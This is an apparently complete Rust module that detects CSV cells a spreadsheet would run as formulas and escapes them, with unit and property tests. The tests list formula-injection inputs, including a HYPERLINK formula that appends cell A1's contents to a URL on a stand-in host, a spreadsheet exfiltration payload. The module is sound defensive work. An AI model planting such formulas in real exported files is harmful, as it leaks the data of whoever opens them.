//! Cells of a CSV file that a spreadsheet would execute, and how they are written so that it does not.

use std::borrow::Cow;

use unicode_normalization::UnicodeNormalization as _;

use crate::wording::is_blank;

/// What may stand before the sign that makes a formula.
const QUOTES: [char; 6] = ['\'', '"', '`', '“', '‘', '＇'];

/// Whether a spreadsheet may take a text for a formula: it begins with `=`, `+`, `-` or `@` of any width, perhaps after spaces
/// and quotes, or with a tab or a carriage return. A number is none, and neither are signs alone.
pub(crate) fn is_formula(text: &str) -> bool {
    if !text.chars().any(char::is_alphanumeric) {
        return false;
    }
    let start = text.trim_start_matches(|c: char| is_blank(c) || QUOTES.contains(&c));
    let sign = start.chars().next().and_then(|first| first.nfkc().next());
    text.trim_start_matches(QUOTES).starts_with(['\t', '\r'])
        || match sign {
            Some('=' | '@') => true,
            Some('+' | '-') => !is_number(start),
            _ => false,
        }
}

/// Whether a text is a sign and a number: `-12.50`, `+1,234`, `-3%`, `-1e-5`.
fn is_number(text: &str) -> bool {
    let plain: String = text.nfkc().filter(|c| *c != ',').collect();
    let plain = plain.trim_end();
    let plain = plain.strip_suffix('%').unwrap_or(plain);
    plain.ends_with(|c: char| c.is_ascii_digit() || c == '.') && plain.parse::<f64>().is_ok()
}

/// A text as a cell: what a spreadsheet would execute has a `'` before it.
pub(crate) fn cell(text: &str) -> Cow<'_, str> {
    if is_formula(text) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

/// The text of such a cell.
pub(crate) fn text_of(cell: &str) -> &str {
    cell.strip_prefix('\'').filter(|text| is_formula(text)).unwrap_or(cell)
}

/// The name of an image as a cell: what a spreadsheet would execute has a `./` before it, so that every program that reads
/// the table still finds the file.
pub(crate) fn image_cell(name: &str) -> Cow<'_, str> {
    if is_formula(name) { Cow::Owned(format!("./{name}")) } else { Cow::Borrowed(name) }
}

/// The name of such a cell.
pub(crate) fn image_of(cell: &str) -> &str {
    cell.strip_prefix("./").filter(|name| is_formula(name)).unwrap_or(cell)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn what_a_spreadsheet_executes_is_a_formula_and_numbers_and_names_are_not() {
        for text in [
            "=1+1",
            "+1+1有限公司",
            "-2有限公司",
            "@SUM(1)",
            "＝A1",
            "＋A1",
            "－A1",
            "＠A1",
            "﹦A1",
            " =A1",
            "\u{3000}=A1",
            "\u{200B}=A1",
            "'=A1",
            "\"=A1",
            "“=A1",
            "\tA1",
            "\rA1",
            "-1-1",
            "+86 10 1234",
            "-inf",
            "=HYPERLINK(\"http://x/?\"&A1,\"x\")",
            "- a note",
        ] {
            assert!(is_formula(text), "{text:?}");
        }
        for text in [
            "",
            "-",
            "--",
            "——",
            "-12.50",
            "+1,234.00",
            "-3%",
            "－12",
            "-1e-5",
            "+.5",
            "甲有限公司",
            "甲=乙",
            "1+1",
            "'甲'",
            "./=a.jpg",
            "–甲",
        ] {
            assert!(!is_formula(text), "{text:?}");
        }
    }

    proptest! {
        #[test]
        fn a_cell_is_no_formula_where_it_is_written_and_itself_where_it_is_read(text in "['\"=+@./ \\-\ta甲1＝]{0,8}") {
            let written = cell(&text);
            prop_assert_eq!(text_of(&written), text.as_str());
            prop_assert!(written == text || written.starts_with('\''));
            let written = image_cell(&text);
            prop_assert_eq!(image_of(&written), image_of(&text));
            prop_assert!(!is_formula(&written));
        }
    }
}
